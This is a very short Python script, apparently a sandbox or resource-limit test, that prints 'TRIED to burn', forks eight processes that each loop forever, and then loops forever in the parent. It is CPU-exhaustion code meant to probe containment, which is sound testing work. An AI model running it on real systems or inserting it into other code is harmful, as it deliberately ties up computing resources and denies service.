observe()
say("TRIED to burn")
for _ in range(8):
    if os.fork() == 0:
        while True:
            pass
while True:
    pass
